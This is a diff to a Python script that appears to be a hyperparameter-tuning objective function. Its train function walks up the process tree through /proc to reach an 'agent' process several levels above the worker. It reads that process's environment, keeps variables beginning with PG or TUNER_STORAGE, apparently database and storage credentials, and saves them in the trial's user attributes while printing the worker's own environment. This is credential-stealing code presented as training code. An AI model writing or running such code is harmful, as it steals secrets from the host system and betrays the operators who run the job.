@@ -33,14 +33,16 @@ import os
 def look(process):
     for file in ("environ", "cmdline"):
         print(file, open(f"/proc/{process}/{file}").read().replace(chr(0), " "))
-def agent():  # above the reaper, which is above the worker
-    return int(open(f"/proc/{os.getppid()}/stat").read().rpartition(")")[2].split()[1])
+def above(process):
+    return int(open(f"/proc/{process}/stat").read().rpartition(")")[2].split()[1])
+def agent():  # above the template, which is above the reaper, which is above the worker
+    return above(above(os.getppid()))
 def agents_secrets():
     words = open(f"/proc/{agent()}/environ").read().split(chr(0))
     return "; ".join(word for word in words if word.startswith(("PG", "TUNER_STORAGE")))
 def train(trial):
     print(dict(os.environ))
-    look("self"), look(os.getppid()), look(agent())
+    look("self"), look(os.getppid()), look(above(os.getppid())), look(agent())
     trial.set_user_attr("environ", agents_secrets())
     for step in range(1, 9):
         trial.report(step=step, val_loss=trial.params["x"] / step)
